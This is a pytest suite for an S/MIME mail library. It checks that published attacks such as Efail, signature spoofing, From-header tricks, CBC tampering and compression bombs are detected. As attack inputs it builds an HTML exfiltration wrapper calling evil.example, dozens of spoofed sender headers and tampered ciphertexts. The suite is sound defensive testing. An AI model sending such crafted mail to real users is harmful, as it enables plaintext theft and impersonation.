"""Published attacks on signed and encrypted mail: none may deceive the reader or give anything away.

Poddebniak et al., "Efail" (2018); Müller et al., "Johnny, you are fired!" (2019) and "Re: What's Up Johnny?"
(2019); and what follows from RFC 5322, 1847 and 5652 where programs read them in different ways.
"""

from __future__ import annotations

import base64
import io
import socket
import time
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from email.utils import format_datetime
from typing import TYPE_CHECKING, NoReturn

import pytest
from mail_reports import check_mail_document

from tokensign.algorithms import CONTENT_CIPHERS, KeyUsage
from tokensign.cms.certificates_only import write_certificates_only
from tokensign.cms.compressed import DecompressionLimit, compress
from tokensign.cms.encrypt import encrypt
from tokensign.cms.signed import sign_attached, sign_detached
from tokensign.cms.signed_data import read_signed_data
from tokensign.errors import DecryptionError, UnsupportedError, UsageError
from tokensign.keys import DecryptionKey
from tokensign.report import Status
from tokensign.smime.compose_mail import MailOptions, encrypt_mail, sign_mail
from tokensign.smime.mail_report import LayerKind
from tokensign.smime.open_mail import open_mail

if TYPE_CHECKING:
    from collections.abc import Callable

    from tokensign.smime.mail_report import MailReport
    from tokensign.token import TokenKey
    from tokensign.verification import Expectations

TEXT = b"Content-Type: text/plain\r\n\r\nPay 100 to Bob.\r\n"
FROM_ALICE = b"From: Alice <alice@acme.example>\r\n"
FROM_MALLORY = b"From: mallory@evil.example\r\n"
REST = b"To: bob@acme.example\r\nSubject: Money\r\n"
PLAIN = FROM_ALICE + REST + TEXT
CBC = CONTENT_CIPHERS["aes-256-cbc"]


class Forbidden(Sequence[DecryptionKey]):
    """Keys that must not be touched."""

    def __len__(self) -> NoReturn:
        raise AssertionError("a key was used")

    def __getitem__(self, index: object) -> NoReturn:  # type: ignore[override]
        raise AssertionError("a key was used")


def opened(
    message: bytes, expectations: Expectations, keys: Sequence[DecryptionKey] = (), part: str = ""
) -> tuple[MailReport, bytes]:
    output = io.BytesIO()
    report = open_mail(io.BytesIO(message), expectations, keys, output, part=part)
    check_mail_document(report.to_json())
    return report, output.getvalue()


def signed(message: bytes, *signers: TokenKey, **options: bool) -> bytes:
    output = io.BytesIO()
    sign_mail(io.BytesIO(message), signers, output, MailOptions(**options))  # type: ignore[arg-type]
    return output.getvalue()


def clear_signed(entity: bytes, signature: bytes, header: bytes = FROM_ALICE + REST) -> bytes:
    """A multipart/signed without header protection, as most programs send it."""
    return (
        header
        + b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="=s"\r\n\r\n'
        b"--=s\r\n" + entity + b"\r\n--=s\r\n"
        b'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(signature) + b"--=s--\r\n"
    )


def pkcs7_mime(cms: bytes, header: bytes = b"", smime_type: bytes = b"enveloped-data") -> bytes:
    return (
        header + b"Content-Type: application/pkcs7-mime; name=smime.p7m; smime-type=" + smime_type + b"\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(cms)
    )


def multipart(*parts: bytes, header: bytes = FROM_ALICE + REST, kind: bytes = b"mixed") -> bytes:
    inside = b"".join(b"--=m\r\n" + part + b"\r\n" for part in parts)
    return header + b"Content-Type: multipart/" + kind + b"; boundary==m\r\n\r\n" + inside + b"--=m--\r\n"


def html(text: bytes) -> bytes:
    return b"Content-Type: text/html\r\n\r\n" + text


def enveloped(entity: bytes, bob: TokenKey, cipher: str = "aes-256-cbc") -> bytes:
    assert bob.certificate is not None
    output = io.BytesIO()
    encrypt(io.BytesIO(entity), [bob.certificate], output, cipher=CONTENT_CIPHERS[cipher])
    return output.getvalue()


def attached(entity: bytes, *signers: TokenKey) -> bytes:
    output = io.BytesIO()
    sign_attached(io.BytesIO(entity), signers, output)
    return output.getvalue()


# --- Efail


def test_direct_exfiltration_an_encrypted_part_between_others_is_not_decrypted(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    message = multipart(
        html(b'<img src="http://evil.example/'), pkcs7_mime(enveloped(TEXT, bob)), html(b'">')
    )
    report, output = opened(message, mail_trust, Forbidden())
    assert report.layers == ()
    assert report.verdict == "unsigned"
    assert any("part 2 is encrypted, and was not opened" in remark for remark in report.remarks)
    assert output == message


def test_direct_exfiltration_a_part_that_is_named_comes_without_what_is_around_it(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    message = multipart(
        html(b'<img src="http://evil.example/'), pkcs7_mime(enveloped(TEXT, bob)), html(b'">')
    )
    report, output = opened(message, mail_trust, [bob], part="2")
    assert [layer.kind for layer in report.layers] == [LayerKind.ENCRYPTED]
    assert b"Pay 100 to Bob." in output
    assert b"evil" not in output
    assert b"From:" not in output
    with pytest.raises(UsageError, match="neither signed nor encrypted"):
        opened(message, mail_trust, [bob], part="1")
    with pytest.raises(UsageError, match="no part 7"):
        opened(message, mail_trust, [bob], part="7")


def test_cbc_gadget_changed_plaintext_is_marked_as_not_authenticated(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    """Who knows a block of plaintext can change it, and its predecessor into garbage; no key is needed."""
    cms = enveloped(b"Content-Type: text/plain\r\n" * 4 + TEXT + b"x" * 64, bob)
    changed = bytearray(cms)
    changed[-40] ^= 1  # in a block before the last one
    report, output = opened(pkcs7_mime(bytes(changed), FROM_ALICE), mail_trust, [bob])
    (layer,) = report.layers
    assert layer.authenticated is False
    assert report.authenticated is False
    assert report.verdict == "unsigned"
    assert report.sender.status is Status.NOT_CHECKED
    assert "anybody may have sent or changed it" in report.summary()
    assert output


def test_cbc_gadget_a_changed_message_with_a_tag_is_not_opened(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    changed = bytearray(enveloped(TEXT, bob, "aes-256-gcm"))
    changed[-30] ^= 1
    with pytest.raises(DecryptionError):
        opened(pkcs7_mime(bytes(changed), FROM_ALICE), mail_trust, [bob])


@pytest.mark.parametrize(
    "inside",
    [
        pkcs7_mime(b"\x30\x03\x02\x01\x05"),
        pkcs7_mime(b"no CMS at all"),
        b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n****",
        clear_signed(TEXT, b"no signature", b""),
        clear_signed(TEXT, b"", b"").replace(b"--=s--", b""),
        b"X: y\r\n" * 3000 + b"\r\n",
    ],
)
def test_cbc_padding_oracle_what_is_wrong_inside_is_not_told(
    inside: bytes, bob: TokenKey, mail_trust: Expectations
) -> None:
    """RFC 8551 section 6: the answers to changed messages would be an oracle for the content."""
    damaged = enveloped(TEXT, bob)[:-16]
    with pytest.raises(DecryptionError) as outside:
        opened(
            pkcs7_mime(enveloped(TEXT, bob, "aes-256-gcm")[:-16] + bytes(16), FROM_ALICE), mail_trust, [bob]
        )
    assert damaged
    with pytest.raises(DecryptionError) as caught:
        opened(pkcs7_mime(enveloped(inside, bob), FROM_ALICE), mail_trust, [bob])
    assert caught.value.message == outside.value.message
    assert caught.value.hint == outside.value.hint


# --- Johnny, you are fired!


def test_several_signers_must_all_be_whom_from_names(
    alice: TokenKey, mallory: TokenKey, mail_trust: Expectations
) -> None:
    for signers in ((alice, mallory), (mallory, alice)):
        report, output = opened(signed(PLAIN, *signers), mail_trust)
        assert report.verdict == "bad"
        assert "mallory@evil.example, not to alice@acme.example" in report.summary()
        assert output == b""


def test_two_signatures_of_which_one_is_bad_do_not_hold(
    alice: TokenKey, mail_person: Callable[..., TokenKey], mail_trust: Expectations
) -> None:
    second = mail_person("alice-2", "rsa:2048", KeyUsage.SIGN, "alice@acme.example")
    cms = attached(TEXT, alice, second)
    good = pkcs7_mime(cms, FROM_ALICE, b"signed-data")
    assert opened(good, mail_trust)[0].verdict == "good"
    signature = next(
        info.signature
        for info in read_signed_data(io.BytesIO(cms)).signer_infos
        if len(info.signature) == 256
    )
    changed = cms.replace(signature, bytes(255) + b"\x01")
    bad = pkcs7_mime(changed, FROM_ALICE, b"signed-data")
    report, output = opened(bad, mail_trust)
    assert report.verdict == "bad"
    assert output == b""
    report, output = opened(bad, replace(mail_trust, any_signer=True))
    assert report.verdict == "good"
    assert b"Pay 100" in output


def test_the_time_in_a_signature_that_does_not_hold_is_compared_with_nothing(
    alice: TokenKey, mail_person: Callable[..., TokenKey], mail_trust: Expectations
) -> None:
    second = mail_person("alice-2", "rsa:2048", KeyUsage.SIGN, "alice@acme.example")
    cms = attached(TEXT, alice, second)
    header = FROM_ALICE + b"Date: " + format_datetime(datetime.now(UTC)).encode() + b"\r\n"
    author = opened(pkcs7_mime(cms, header, b"signed-data"), mail_trust)[0].author
    assert author is not None
    time_in_cms = f"{author.signers[0].signing_time:%y%m%d%H%M%S}Z".encode()
    changed = cms.replace(time_in_cms, b"20" + time_in_cms[2:], 1)
    message = pkcs7_mime(changed, header, b"signed-data")
    report, _ = opened(message, replace(mail_trust, any_signer=True))
    assert report.author is not None
    assert [signer.holds for signer in report.author.signers] == [False, True]
    assert report.date_offset is not None
    assert abs(report.date_offset) < 600


@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative"])
@pytest.mark.parametrize("first", [True, False])
def test_a_signed_part_beside_others_never_speaks_for_the_mail(
    kind: bytes, *, first: bool, alice: TokenKey, mail_trust: Expectations
) -> None:
    """Shown or hidden (by cid: in HTML, or as an attachment), before or behind the attacker's text."""
    part = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), b"")
    attack = html(b'Pay 900 to Mallory.<img src="cid:signed">')
    parts = (part, attack) if first else (attack, part)
    report, _ = opened(multipart(*parts, kind=kind), mail_trust)
    assert report.verdict == "partial"
    assert report.sender.status is Status.NOT_CHECKED
    assert report.layers == ()
    (signed_part,) = report.signed_parts
    assert signed_part.path == ("1" if first else "2")
    assert signed_part.holds
    assert report.outside == (f"part {'2' if first else '1'} (text/html, {len(attack) - 27} bytes)",)


def test_a_signed_part_in_a_message_within_a_message_speaks_for_itself_only(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    inner = signed(PLAIN, alice)
    forwarded = FROM_MALLORY + b"Content-Type: message/rfc822\r\n\r\n" + inner
    report, _ = opened(forwarded, mail_trust)
    assert report.verdict == "partial"
    assert report.signed_parts[0].path == "1"


def test_an_opaque_signed_part_beside_others_speaks_for_itself_only(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    part = pkcs7_mime(attached(TEXT, alice), b"", b"signed-data")
    report, _ = opened(multipart(html(b"Pay 900."), part), mail_trust)
    assert report.verdict == "partial"
    assert [layer.path for layer in report.signed_parts] == ["2"]


def test_a_bad_signed_part_makes_the_mail_bad(alice: TokenKey, mail_trust: Expectations) -> None:
    part = clear_signed(TEXT.replace(b"100", b"900"), sign_detached(io.BytesIO(TEXT), [alice]), b"")
    report, output = opened(multipart(html(b"hello"), part), mail_trust)
    assert report.verdict == "bad"
    assert output == b""


def test_only_so_many_signed_parts_are_looked_at(alice: TokenKey, mail_trust: Expectations) -> None:
    part = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), b"")
    report, _ = opened(multipart(*[part] * 40), mail_trust)
    assert len(report.signed_parts) == 16
    assert any("more than 16 parts are signed" in remark for remark in report.remarks)


FROM_TRICKS = {
    "two fields": FROM_ALICE + FROM_MALLORY,
    "two fields, the other way": FROM_MALLORY + FROM_ALICE,
    "a field with a space before its colon": FROM_MALLORY + b"From : alice@acme.example\r\n",
    "two addresses": b"From: alice@acme.example, mallory@evil.example\r\n",
    "two addresses, the other way": b"From: mallory@evil.example, alice@acme.example\r\n",
    "a group": b"From: alice@acme.example:mallory@evil.example;\r\n",
    "a group of one": b"From: Friends: mallory@evil.example;\r\n",
    "an address as name": b"From: alice@acme.example <mallory@evil.example>\r\n",
    "a quoted address as name": b'From: "alice@acme.example" <mallory@evil.example>\r\n',
    "a name that closes the address": b'From: "Alice <alice@acme.example>" <mallory@evil.example>\r\n',
    "an encoded address as name": b"From: =?utf-8?q?alice=40acme=2Eexample?= <mallory@evil.example>\r\n",
    "a base64 address as name": b"From: =?utf-8?b?"
    + base64.b64encode(b"alice@acme.example")
    + b"?= <mallory@evil.example>\r\n",
    "an encoded address in quotes": b'From: "=?utf-8?q?alice=40acme=2Eexample?=" <mallory@evil.example>\r\n',
    "a NUL in an encoded word": b"From: =?utf-8?q?alice=40acme=2Eexample=00?= <mallory@evil.example>\r\n",
    "an encoded word as address": b"From: =?utf-8?q?alice=40acme=2Eexample=00?=@evil.example\r\n",
    "a wide sign": "From: alice＠acme.example <mallory@evil.example>\r\n".encode(),  # noqa: RUF001
    "a comment": b"From: mallory@evil.example (alice@acme.example)\r\n",
    "a comment before": b"From: (alice@acme.example) mallory@evil.example\r\n",
    "a NUL": b"From: alice@acme.example\0 <mallory@evil.example>\r\n",
    "a bare CR": b"From: mallory@evil.example\rFrom: alice@acme.example\r\n",
    "text that turns around": "From: Alice \u202e <mallory@evil.example>\r\n".encode(),
    "a line feed in an encoded word": b"From: =?utf-8?q?Alice=0AFrom:_alice?= <mallory@evil.example>\r\n",
    "two at signs": b"From: alice@acme.example@evil.example\r\n",
    "a route": b"From: <@acme.example:mallory@evil.example>\r\n",
    "angles in angles": b"From: <alice@acme.example> <mallory@evil.example>\r\n",
    "text behind the address": b"From: <mallory@evil.example> alice@acme.example\r\n",
    "no From": b"Sender: mallory@evil.example\r\n",
    "an empty From": b"From: \r\n",
    "From of Alice, Sender of Mallory": FROM_ALICE + b"Sender: mallory@evil.example\r\n",
    "a look-alike": "From: alice@\u0430cme.example\r\n".encode(),
    "another case of the local part": b"From: Mallory@evil.example\r\n",
    "a subdomain": b"From: mallory@evil.example.acme.example\r\n",
}


@pytest.mark.parametrize("trick", FROM_TRICKS)
@pytest.mark.parametrize("protected", [True, False])
def test_from_tricks_never_prove_the_sender(
    trick: str, *, protected: bool, mallory: TokenKey, mail_trust: Expectations
) -> None:
    header = FROM_TRICKS[trick] + REST
    entity = header + TEXT.replace(b"text/plain", b'text/plain; hp="clear"') if protected else TEXT
    message = clear_signed(entity, sign_detached(io.BytesIO(entity), [mallory]), header)
    report, output = opened(message, mail_trust)
    assert report.sender.status is not Status.PASSED
    assert report.verdict in ("bad", "unsigned")  # unsigned: where a bare CR hides what is signed
    assert report.verdict == "unsigned" or output == b""


@pytest.mark.parametrize(
    "field",
    [
        b"From: alice@acme.example\r\n",
        b"From: <alice@ACME.example>\r\n",
        b'From: "Alice, of Acme" <alice@acme.example> (from home)\r\n',
        b"From: =?utf-8?q?Al=C3=AFce?= <alice@acme.example>\r\n",
        b"From: alice@acme.example <alice@acme.example>\r\n",
        b"from:\r\n alice@acme.example\r\n",
    ],
)
def test_an_honest_from_proves_the_sender(field: bytes, alice: TokenKey, mail_trust: Expectations) -> None:
    """The other side of the tricks: what people really write is not refused."""
    report, _ = opened(clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), field + REST), mail_trust)
    assert report.sender.status is Status.PASSED
    assert report.verdict == "good"
    assert report.sender_address is not None
    assert report.sender_address.lower() == "alice@acme.example"


def test_a_protected_from_of_somebody_else_does_not_count(
    mallory: TokenKey, mail_trust: Expectations
) -> None:
    """Mallory signs a header that says Alice, and sends it from her own address."""
    message = signed(PLAIN, mallory)
    outside = message.replace(b"From: Alice <alice@acme.example>", b"From: mallory@evil.example", 1)
    report, output = opened(outside, mail_trust)
    assert report.verdict == "bad"
    assert output == b""


# --- Re: What's Up Johnny?


def test_covert_content_in_a_signed_reply_is_not_decrypted(
    bob: TokenKey, mallory: TokenKey, mail_trust: Expectations
) -> None:
    """Mallory hides a stolen ciphertext in her own mail, hoping that it is quoted in the reply."""
    payload = multipart(html(b"What's up?"), pkcs7_mime(enveloped(TEXT, bob)), header=FROM_MALLORY + REST)
    report, output = opened(signed(payload, mallory), mail_trust, Forbidden())
    assert report.verdict == "good"
    assert b"Pay 100" not in output
    assert any("part 1.2 is encrypted, and was not opened" in remark for remark in report.remarks)


def test_covert_content_in_an_encrypted_mail_is_not_decrypted(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    payload = multipart(html(b"What's up?"), pkcs7_mime(enveloped(TEXT, bob)), header=b"")
    report, output = opened(pkcs7_mime(enveloped(payload, bob), FROM_MALLORY), mail_trust, [bob])
    assert len(report.layers) == 1
    assert b"Pay 100" not in output


def test_replies_that_would_go_elsewhere_are_told(alice: TokenKey, mail_trust: Expectations) -> None:
    header = FROM_ALICE + REST + b"Reply-To: mallory@evil.example\r\n"
    message = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), header)
    report, _ = opened(message, mail_trust)
    assert "replies go to mallory@evil.example, says the field Reply-To" in report.remarks
    assert report.headers.protection_of("Reply-To") == "unprotected"


# --- around the signature


def test_text_before_and_after_the_boundaries_is_outside_and_not_shown(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    message = signed(PLAIN, alice)
    start, end = message.index(b"\r\n\r\n") + 4, len(message)
    attacked = message[:start] + b"Pay 900 to Mallory.\r\n" + message[start:end] + b"Pay 800 to Mallory.\r\n"
    report, output = opened(attacked, mail_trust)
    assert report.verdict == "good"
    assert [entry.partition(" (")[0] for entry in report.outside] == [
        "text before the first part of the mail",
        "text after the last part of the mail",
    ]
    assert b"Mallory" not in output
    assert b"Pay 100 to Bob." in output


def test_a_third_part_beside_the_signature_makes_the_mail_bad(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    message = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]))
    attacked = message.replace(b"--=s--", b"--=s\r\n\r\nPay 900.\r\n--=s--")
    report, output = opened(attacked, mail_trust)
    assert report.verdict == "bad"
    assert "it has 3 parts" in report.summary()
    assert output == b""


def test_a_header_that_was_changed_outside_is_told_and_not_shown(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    message = signed(PLAIN, alice)
    attacked = message.replace(b"Subject: Money", b"Subject: Holidays", 1)
    report, output = opened(attacked, mail_trust)
    subject = next(entry for entry in report.headers.fields if entry.name == "Subject")
    assert (subject.text, subject.protection, subject.outside) == ("Money", "signed-only", "changed")
    assert subject.outside_text == "Holidays"
    assert b"Subject: Money" in output
    assert b"Holidays" not in output


def test_a_header_that_nobody_signed_is_told(alice: TokenKey, mail_trust: Expectations) -> None:
    report, _ = opened(clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice])), mail_trust)
    assert report.verdict == "good"
    assert report.headers.scheme is None
    assert {entry.protection for entry in report.headers.fields} == {"unprotected"}


# --- signed-data that is not what it seems


def test_a_signature_without_signer_is_none(alice: TokenKey, mail_trust: Expectations) -> None:
    assert alice.certificate is not None
    report, output = opened(clear_signed(TEXT, write_certificates_only([alice.certificate])), mail_trust)
    assert report.verdict == "bad"
    assert "there is no signature in it" in report.summary()
    assert output == b""


def test_certificates_alone_sign_nothing(alice: TokenKey, mail_trust: Expectations) -> None:
    assert alice.certificate is not None
    message = pkcs7_mime(write_certificates_only([alice.certificate]), FROM_ALICE, b"certs-only")
    report, output = opened(message, mail_trust)
    (layer,) = report.layers
    assert layer.kind is LayerKind.CERTS_ONLY
    assert layer.certificates == (alice.certificate,)
    assert report.verdict == "unsigned"
    assert output == message


def test_a_content_in_the_signature_beside_the_one_in_the_mail_is_refused(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    """One program would show the one, another program the other."""
    report, output = opened(clear_signed(html(b"Pay 900."), attached(TEXT, alice)), mail_trust)
    assert report.verdict == "bad"
    assert "a content of its own" in report.summary()
    assert output == b""


def test_an_opaque_message_without_its_content_does_not_hold(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    message = pkcs7_mime(sign_detached(io.BytesIO(TEXT), [alice]), FROM_ALICE, b"signed-data")
    report, output = opened(message, mail_trust)
    assert report.verdict == "bad"
    assert "what was signed is not in the mail" in report.summary()
    assert output == b""


def test_an_smime_type_that_lies_changes_nothing(
    alice: TokenKey, bob: TokenKey, mail_trust: Expectations
) -> None:
    lying = pkcs7_mime(enveloped(TEXT, bob), FROM_ALICE, b"signed-data")
    report, _ = opened(lying, mail_trust, [bob])
    assert [layer.kind for layer in report.layers] == [LayerKind.ENCRYPTED]
    assert report.verdict == "unsigned"
    assert "the mail says that it is signed-data, and it is enveloped-data" in report.remarks
    lying = pkcs7_mime(attached(TEXT, alice), FROM_ALICE, b"enveloped-data")
    report, _ = opened(lying, mail_trust, Forbidden())
    assert [layer.kind for layer in report.layers] == [LayerKind.SIGNED]


# --- where programs read differently


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"Content-Type: multipart/signed", b"Content-Type: text/plain\r\nContent-Type: multipart/signed"),
        (b"Content-Type: multipart/signed", b"Content-Type: text/html;\rContent-Type: multipart/signed"),
        (b"Subject: Money", b"Subject: Money\rContent-Type: text/html"),
        (b"Subject: Money", b"Subject: Money\0"),
        (b'boundary="=s"', b'boundary="=s"; boundary="=t"'),
        (b"Subject: Money\r\n", b"Subject: Money\r\n \t\r\n"),
        (b"Subject: Money\r\n", b"Subject: Money\r\nno field\r\n"),
        (b"Subject: Money\r\n", b"Subject: Money\r\nContent-Transfer-Encoding: base64\r\n"),
    ],
)
def test_a_mail_that_programs_read_differently_gets_no_good_verdict(
    old: bytes, new: bytes, alice: TokenKey, mail_trust: Expectations
) -> None:
    message = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]))
    assert opened(message, mail_trust)[0].verdict == "good"
    report, _ = opened(message.replace(old, new, 1), mail_trust)
    assert report.verdict == "unsigned"
    assert report.layers == ()
    assert any("in different ways" in remark for remark in report.remarks)


def test_a_signed_forward_is_from_who_forwarded_it(mallory: TokenKey, mail_trust: Expectations) -> None:
    """The mail that Mallory forwards says From Alice; it stays an attachment."""
    entity = b"Content-Type: message/rfc822\r\n\r\n" + PLAIN
    message = clear_signed(entity, sign_detached(io.BytesIO(entity), [mallory]), FROM_MALLORY + REST)
    report, output = opened(message, mail_trust)
    assert report.verdict == "good"
    assert report.sender_address == "mallory@evil.example"
    assert output.startswith(FROM_MALLORY)
    lying = message.replace(FROM_MALLORY, FROM_ALICE, 1)
    assert opened(lying, mail_trust)[0].verdict == "bad"


def compressed(entity: bytes, times: int) -> bytes:
    """An entity in so many compressions inside each other."""
    for _ in range(times):
        output = io.BytesIO()
        compress(io.BytesIO(entity), output)
        entity = pkcs7_mime(output.getvalue(), b"", b"compressed-data")
    return entity


def test_layers_without_end_are_refused(mail_trust: Expectations) -> None:
    entity = compressed(TEXT, 9)
    with pytest.raises(UnsupportedError, match="more than 8 layers"):
        opened(FROM_ALICE + entity, mail_trust)


def test_a_bomb_in_two_compressions_is_refused(
    mail_trust: Expectations, monkeypatch: pytest.MonkeyPatch
) -> None:
    limit = DecompressionLimit(ratio=1100, free=1 << 16)
    monkeypatch.setattr("tokensign.smime.open_mail.DecompressionLimit", lambda: limit)
    entity = compressed(TEXT + bytes(4 << 20), 2)
    with pytest.raises(UnsupportedError, match="more than"):
        opened(FROM_ALICE + entity, mail_trust)


def test_nothing_is_fetched_because_a_mail_says_so(
    alice: TokenKey, mail_trust: Expectations, monkeypatch: pytest.MonkeyPatch
) -> None:
    def forbidden(*_: object) -> NoReturn:
        raise AssertionError("the network was used")

    monkeypatch.setattr(socket.socket, "connect", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    external = b'Content-Type: message/external-body; access-type=URL; URL="http://evil.example/"\r\n\r\n'
    payload = multipart(html(b'<img src="http://evil.example/"><link href=//evil.example>'), external)
    report, _ = opened(signed(payload, alice), mail_trust)
    assert report.verdict == "good"


def test_a_stolen_ciphertext_in_a_signature_of_somebody_else_is_from_that_one(
    alice: TokenKey, bob: TokenKey, mallory: TokenKey, mail_trust: Expectations
) -> None:
    """Mallory puts her signature around what Alice encrypted to Bob, and says that it is hers."""
    output = io.BytesIO()
    assert bob.certificate is not None
    encrypt_mail(io.BytesIO(PLAIN), [bob.certificate], output, signers=[alice])
    stolen = output.getvalue()
    entity = stolen[stolen.index(b"Content-Type:") :]
    message = clear_signed(entity, sign_detached(io.BytesIO(entity), [mallory]), FROM_MALLORY + REST)
    report, shown = opened(message, mail_trust, [bob])
    assert report.sender_address == "alice@acme.example"
    assert b"alice@acme.example" in shown
    assert any("outside says 'mallory@evil.example'" in remark for remark in report.remarks)


def test_a_mail_that_was_passed_on_to_another_reader_is_told(
    alice: TokenKey, bob: TokenKey, mail_person: Callable[..., TokenKey], mail_trust: Expectations
) -> None:
    """Bob decrypts what Alice signed for him, and encrypts it to Carol as if Alice had written to her."""
    carol = mail_person("carol", "rsa:2048", KeyUsage.DECRYPT)
    signed_for_bob = signed(PLAIN, alice)
    entity = signed_for_bob[signed_for_bob.index(b"Content-Type: multipart/signed") :]
    to_carol = FROM_ALICE + b"To: carol@acme.example\r\nSubject: Money\r\n"
    report, output = opened(pkcs7_mime(enveloped(entity, carol), to_carol), mail_trust, [carol])
    assert report.verdict == "good"
    assert b"To: bob@acme.example" in output
    told = "carol@acme.example is not in To and Cc: a blind copy, or somebody passed it on"
    assert told in report.remarks
    report, _ = opened(pkcs7_mime(enveloped(entity, bob), FROM_ALICE + REST), mail_trust, [bob])
    assert not any("passed it on" in remark for remark in report.remarks)


def test_a_field_that_some_programs_take_for_two_is_left_out(
    mallory: TokenKey, mail_trust: Expectations
) -> None:
    entity = (
        FROM_MALLORY + b"Subject: Money\rFrom: alice@acme.example\r\n"
        b'Content-Type: text/plain; hp="clear"\r\n\r\nPay 900.\r\n'
    )
    message = clear_signed(entity, sign_detached(io.BytesIO(entity), [mallory]), FROM_MALLORY)
    report, output = opened(message, mail_trust)
    assert b"alice" not in output
    assert b"Pay 900." in output
    assert any(remark.startswith("the field Subject is left out") for remark in report.remarks)


# --- headers that are not of whom they seem to be


def test_a_header_that_somebody_else_put_around_a_signed_mail_is_not_protected(
    alice: TokenKey, mallory: TokenKey, mail_trust: Expectations
) -> None:
    header = FROM_ALICE + b"Subject: Give it to Mallory\r\n"
    inner = clear_signed(TEXT, sign_detached(io.BytesIO(TEXT), [alice]), header)
    around = b"Content-Type: message/rfc822; forwarded=no\r\n\r\n" + inner
    report, output = opened(pkcs7_mime(attached(around, mallory), FROM_ALICE + REST), mail_trust)
    assert [layer.kind for layer in report.layers] == [LayerKind.SIGNED, LayerKind.SIGNED]
    assert report.headers.scheme is None
    assert report.headers.protection_of("Subject") == "unprotected"
    assert b"Give it to Mallory" not in output


def test_a_hidden_from_that_nobody_signed_is_told_and_not_shown(
    bob: TokenKey, mail_trust: Expectations
) -> None:
    payload = (
        b'Content-Type: text/plain; hp="cipher"\r\nFrom: alice@acme.example\r\nSubject: Money\r\n'
        b"HP-Outer: From: mallory@evil.example\r\n\r\nPay 100 to Mallory.\r\n"
    )
    message = pkcs7_mime(enveloped(payload, bob, "aes-256-gcm"), FROM_MALLORY)
    report, output = opened(message, mail_trust, [bob])
    assert report.sender.status is Status.NOT_CHECKED
    assert report.sender_address is None
    assert any("From outside says 'mallory@evil.example'" in remark for remark in report.remarks)
    assert b"From: mallory@evil.example" in output
    assert b"alice" not in output


def test_a_signature_around_the_encryption_protects_no_header(
    mallory: TokenKey, bob: TokenKey, mail_trust: Expectations
) -> None:
    payload = (
        b'Content-Type: text/plain; hp="cipher"\r\n' + FROM_MALLORY + b"Subject: Money\r\n\r\nstolen\r\n"
    )
    inside = pkcs7_mime(enveloped(payload, bob, "aes-256-gcm"))
    report, _ = opened(pkcs7_mime(attached(inside, mallory), FROM_MALLORY), mail_trust, [bob])
    assert report.verdict == "intact"
    assert report.headers.protection_of("Subject") == "encrypted-only"


# --- what costs the reader more than it costs the attacker


def test_a_long_name_in_from_is_looked_at_in_linear_time(alice: TokenKey, mail_trust: Expectations) -> None:
    field = b'From: "' + b"a" * 500_000 + b'" <alice@acme.example>\r\n'
    start = time.process_time()
    report, _ = opened(signed(field + REST + TEXT, alice), mail_trust)
    assert time.process_time() - start < 5
    assert report.sender_address == "alice@acme.example"


def test_many_fields_of_one_name_are_compared_in_linear_time_and_space(
    alice: TokenKey, mail_trust: Expectations
) -> None:
    fields = b"".join(b"X-A: %d %s\r\n" % (number, b"y" * 400) for number in range(1500))
    message = signed(PLAIN.replace(b"To:", fields + b"To:"), alice)
    outside, boundary, inside = message.partition(b"\r\n--")
    start = time.process_time()
    report, _ = opened(outside.replace(b"yyy", b"zzz") + boundary + inside, mail_trust)
    assert time.process_time() - start < 5
    assert report.verdict == "good"
    told = [entry.outside_text or "" for entry in report.headers.fields if entry.outside == "changed"]
    assert len(told) == 1500
    assert max(map(len, told)) < 2000


@pytest.mark.parametrize("charset", [b"undefined", b"idna", b"a%00"])
def test_a_name_in_an_impossible_charset_stops_nobody_from_reading(
    charset: bytes, mail_trust: Expectations
) -> None:
    named = b"Content-Type: text/plain; name*=" + charset + b"''x\r\n\r\nx"
    placed = b"Content-Disposition: attachment; filename*=" + charset + b"''x\r\n\r\nx"
    report, _ = opened(multipart(named, placed), mail_trust)
    assert report.verdict == "unsigned"
